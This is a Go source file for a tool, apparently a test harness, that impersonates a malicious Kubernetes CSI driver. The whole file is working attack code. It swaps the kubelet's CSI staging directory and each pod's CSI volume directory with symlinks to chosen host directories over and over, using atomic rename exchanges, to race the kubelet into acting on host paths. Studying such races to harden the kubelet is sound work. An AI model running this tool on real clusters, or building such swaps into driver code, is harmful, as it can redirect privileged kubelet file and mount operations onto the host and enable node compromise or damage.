// Command csiswap plays a CSI driver that attacks the kubelet through
// the directories it shares with it. It swaps two kinds of directory for
// symlinks to host directories (renameat2 RENAME_EXCHANGE with a symlink
// beside each), over and over, until SIGTERM:
//
//   - ROOT/plugins/kubernetes.io/csi/DRIVER, where staging directories
//     and their vol_data.json live, with a symlink to STAGING_HOST;
//   - ROOT/pods/<uid>/volumes/kubernetes.io~csi of every pod, where
//     publish targets and their vol_data.json live (made when missing, as
//     a driver could), with a symlink to PODS_HOST.
//
// Each swap leaves the symlink in place for a moment only, so that the
// kubelet's operations mostly find the real directories and go on, with
// the symlink in their way now and then. The symlinks wait in
// ROOT/csiswap (the same filesystem, outside the pods' directories): a
// pod directory the kubelet removes while its directory is swapped out
// loses the symlink, not the directory. On SIGTERM every directory is
// put back and the counts are printed.
//
// Usage: csiswap ROOT DRIVER STAGING_HOST PODS_HOST
package main

import (
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) != 5 {
		fmt.Fprintln(os.Stderr, "usage: csiswap ROOT DRIVER STAGING_HOST PODS_HOST")
		os.Exit(2)
	}
	root, driver, stagingHost, podsHost := os.Args[1], os.Args[2], os.Args[3], os.Args[4]
	stop := make(chan os.Signal, 1)
	signal.Notify(stop, syscall.SIGTERM, syscall.SIGINT)
	driverDir := filepath.Join(root, "plugins", "kubernetes.io", "csi", driver)
	links := filepath.Join(root, "csiswap")
	if err := os.MkdirAll(driverDir, 0o750); err != nil {
		fmt.Fprintln(os.Stderr, "csiswap:", err)
		os.Exit(1)
	}
	if err := os.MkdirAll(links, 0o750); err != nil {
		fmt.Fprintln(os.Stderr, "csiswap:", err)
		os.Exit(1)
	}
	swaps, pods := 0, map[string]bool{}
	for {
		select {
		case <-stop:
			fmt.Printf("csiswap: %d swaps, %d pod directories\n", swaps, len(pods))
			return
		default:
		}
		dirs := []swapped{{driverDir, stagingHost, filepath.Join(links, "driver")}}
		matches, _ := filepath.Glob(filepath.Join(root, "pods", "*", "volumes"))
		for _, m := range matches {
			d := filepath.Join(m, "kubernetes.io~csi")
			if err := os.Mkdir(d, 0o750); err == nil || os.IsExist(err) {
				dirs = append(dirs, swapped{d, podsHost, filepath.Join(links, filepath.Base(filepath.Dir(m)))})
				pods[d] = true
			}
		}
		for _, d := range dirs {
			if d.swapIn() {
				swaps++
			}
		}
		time.Sleep(time.Millisecond)
		for _, d := range dirs {
			d.swapBack()
		}
		// Mostly the real directories: the driver, which resolves the
		// paths it is given, is fooled too when a swap catches it, and
		// fails its call (a NodeUnpublishVolume that unmounts nothing).
		time.Sleep(15 * time.Millisecond)
	}
}

// swapped is a directory, the host directory its symlink points to, and
// where the symlink waits.
type swapped struct{ dir, host, wait string }

func (s swapped) link() string { return s.wait }

// swapIn puts the symlink where the directory is.
func (s swapped) swapIn() bool {
	if err := os.Symlink(s.host, s.link()); err != nil && !os.IsExist(err) {
		return false
	}
	if fi, err := os.Lstat(s.dir); err != nil || !fi.IsDir() {
		return false
	}
	return unix.Renameat2(unix.AT_FDCWD, s.dir, unix.AT_FDCWD, s.link(), unix.RENAME_EXCHANGE) == nil
}

// swapBack puts the directory back if the symlink is in its place.
func (s swapped) swapBack() {
	if fi, err := os.Lstat(s.dir); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		_ = unix.Renameat2(unix.AT_FDCWD, s.dir, unix.AT_FDCWD, s.link(), unix.RENAME_EXCHANGE)
	}
}
